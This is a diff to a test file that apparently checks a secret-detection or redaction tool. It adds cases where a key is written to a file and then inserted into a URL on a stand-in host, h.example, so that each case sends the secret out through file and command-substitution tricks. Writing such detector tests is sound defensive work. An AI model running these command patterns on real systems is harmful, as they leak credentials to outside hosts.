@@ -53,6 +53,10 @@ test.each([
   ["a command as a file", `logwhere job --destination-file <(echo "${hook}")\n`],
   ["a file", `cat > d.txt <<EOF\n${hook}\nEOF\nlogwhere job --destination-file d.txt\n`],
   ["a file of `printf`", `printf 'https://h.example/in/%s' ${key} > d.txt\nlogwhere job --destination-file d.txt\n`],
+  ["a file that is read", `echo ${key} > key.txt\n${use("https://h.example/in/$(cat key.txt)")}`],
+  ["a file of `tee`", `printf %s ${key} | tee ./key.txt >/dev/null\n${use("https://h.example/in/$(cat key.txt)")}`],
+  ["a file by its sign", `echo "${key}" >key.txt\nK=$(<key.txt)\n${use("https://h.example/in/$K")}`],
+  ["a file of a document", `cat > key.txt <<EOF\n${key}\nEOF\n${use("https://h.example/in/$(cat key.txt)")}`],
   ["arguments in a list", `env:\n- name: K\n  value: ${key}\nargs: ["--destination", "https://h.example/in/$(K)"]\n`],
   ["a matrix", `matrix:\n  hook:\n    - ${hook}\n    - gs://bucket9x\nrun: ${use("${{ matrix.hook }}")}`],
 ])("%s", (_, text) => expectHidden(text));
